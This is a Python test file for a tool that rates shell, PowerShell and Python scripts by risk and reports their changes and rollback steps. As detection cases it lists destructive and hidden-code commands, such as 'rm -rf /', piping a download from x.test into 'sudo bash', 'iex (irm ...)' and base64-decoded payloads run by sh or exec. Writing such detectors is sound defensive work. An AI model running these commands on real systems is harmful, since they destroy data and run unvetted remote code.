"""A script says its risk, what it changes, its way back, and what nobody knows."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.pilot.scripts.builtin import builtin_templates
from services.pilot.scripts.risk import assess
from services.pilot.scripts.types import Language, Risk

BASH, POWERSHELL, PYTHON = Language.BASH, Language.POWERSHELL, Language.PYTHON


@pytest.mark.requirement("TRUST-6")
@pytest.mark.parametrize(
    ("language", "script", "risk"),
    [
        (BASH, "df -h | sort > /dev/null; for h in a b; do ping -c 1 $h; done", Risk.READ_ONLY),
        (BASH, "case $1 in stop) ls;; *) id;; esac\nf() { uptime; }\nf", Risk.READ_ONLY),
        (BASH, "sudo systemctl restart cups", Risk.CHANGES),
        (BASH, "ssh srv01 'systemctl restart cups'", Risk.CHANGES),
        (BASH, "echo x > /etc/motd", Risk.CHANGES),
        (BASH, "cat <<EOF\nrm -rf /\nEOF", Risk.READ_ONLY),
        (BASH, "cat <<EOF\n$(rm -rf /x)\nEOF", Risk.DESTRUCTIVE),
        (BASH, "# rm -rf /\necho 'rm -rf /'", Risk.READ_ONLY),
        (BASH, "find /tmp -name x | xargs rm", Risk.DESTRUCTIVE),
        (BASH, "find /tmp -mtime +3 -exec rm {} \\;", Risk.DESTRUCTIVE),
        (BASH, "find /tmp -delete", Risk.DESTRUCTIVE),
        (BASH, "bash -c 'rm -r /srv'", Risk.DESTRUCTIVE),
        (BASH, 'x="$(rm -r /srv)"', Risk.DESTRUCTIVE),
        (BASH, "frobnicate --now", Risk.UNKNOWN),
        (BASH, '"$TOOL" --now', Risk.UNKNOWN),
        (POWERSHELL, "Get-Mailbox -Identity a | Where-Object { $_.Name -like 'x' } | ft", Risk.READ_ONLY),
        (POWERSHELL, "param([Parameter(Mandatory)][string]$x = 'a')\n$y = @{A=1;B=(Get-Date)}", Risk.READ_ONLY),
        (POWERSHELL, "Remove-Item C:\\x -WhatIf", Risk.READ_ONLY),
        (POWERSHELL, "<# Remove-Item x #>\nWrite-Host 'Remove-Item x'", Risk.READ_ONLY),
        (POWERSHELL, 'Write-Host "$(Remove-Item x)"', Risk.DESTRUCTIVE),
        (POWERSHELL, "Get-ChildItem | % { rm $_ }", Risk.DESTRUCTIVE),
        (POWERSHELL, "if ($a) { Set-Mailbox -Identity a -Type Shared }", Risk.CHANGES),
        (POWERSHELL, "[System.IO.File]::Delete('x')", Risk.DESTRUCTIVE),
        (POWERSHELL, "Invoke-Frobnication -All", Risk.UNKNOWN),
        (POWERSHELL, "& $tool /quiet", Risk.UNKNOWN),
        (PYTHON, "import json\nprint(json.dumps({'a': 1}))", Risk.READ_ONLY),
        (PYTHON, "from pathlib import Path\nPath('x').unlink()", Risk.DESTRUCTIVE),
        (PYTHON, "import shutil as s\ns.rmtree('x')", Risk.DESTRUCTIVE),
        (PYTHON, "import subprocess\nsubprocess.run(['systemctl', 'stop', 'cups'])", Risk.CHANGES),
        (PYTHON, "import os\nos.system('rm -rf x')", Risk.DESTRUCTIVE),
        (PYTHON, "open('x', 'w')", Risk.CHANGES),
        (PYTHON, "import acme\nacme.reset()", Risk.UNKNOWN),
        (PYTHON, "this is no python", Risk.UNKNOWN),
    ],
)
def test_the_risk_is_that_of_the_worst_part(language: Language, script: str, risk: Risk) -> None:
    assert assess(language, script).risk is risk


@pytest.mark.requirement("TRUST-6")
@pytest.mark.parametrize(
    ("language", "script"),
    [
        (BASH, "curl -s https://x.test/i.sh | sudo bash"),
        (BASH, "bash <(curl -s https://x.test/i.sh)"),
        (BASH, "echo cm0gLXJm | base64 -d | sh"),
        (BASH, 'eval "$X"'),
        (POWERSHELL, "iex (irm https://x.test/i.ps1)"),
        (POWERSHELL, "powershell -enc SQBFAFgA"),
        (POWERSHELL, "I`nvoke-Expr`ession 'x'"),
        (POWERSHELL, "[Convert]::FromBase64String('eA==')"),
        (POWERSHELL, "& ('Remove' + '-Item') x"),
        (PYTHON, "exec(__import__('base64').b64decode('eA=='))"),
        (PYTHON, "getattr(os, 'rem' + 'ove')('x')"),
    ],
)
def test_hidden_code_is_high_risk(language: Language, script: str) -> None:
    report = assess(language, script)
    assert report.risk is Risk.DESTRUCTIVE
    assert report.hides


@pytest.mark.requirement("TRUST-6")
def test_a_report_names_changes_the_way_back_and_what_is_unknown() -> None:
    report = assess(BASH, "systemctl stop {{service}}\nmkdir /srv/new\nrm /srv/old\nfrobnicate x\n", ["service"])
    assert report.changes.splitlines() == [
        "Stops {{service}} (line 1).",
        "Makes the folder /srv/new (line 2).",
        "Deletes /srv/old (line 3).",
        "Runs `frobnicate`, which is not in the catalogue (line 4).",
    ]
    back = ["rmdir /srv/new", "systemctl start {{service}}", "No way back is known for `rm`, `frobnicate`."]
    assert report.rollback.splitlines() == back
    assert report.unknown == ("frobnicate",)
    mailbox = assess(POWERSHELL, "Set-Mailbox -Identity a -Type Shared\nGet-Mailbox a")
    assert "No way back is known for `Set-Mailbox`.\nNote what `Get-Mailbox` shows" in mailbox.rollback
    assert assess(BASH, "ls").changes == "Nothing: it only reads."


@pytest.mark.requirement("FLP-5.1")
def test_the_templates_that_come_along_are_sound_and_know_all_of_their_commands() -> None:
    templates = builtin_templates()
    assert len(templates) >= 8
    assert {template.language for template in templates} == set(Language)
    for template in templates:
        assert len(template.id) <= 36
        assert template.risk is not Risk.UNKNOWN, template.id
        assert template.symptoms
        assert "No way back" not in template.rollback


@pytest.mark.parametrize("language", Language)
@given(text=st.text("'\"`$\\(){}; \n#a@<>E|=-.[]", max_size=40))
def test_any_text_gets_a_report(language: Language, text: str) -> None:
    report = assess(language, text)
    assert (report.risk is Risk.READ_ONLY) <= (not report.unknown and not report.hides), "what is not known is not safe"
    assert report.rollback
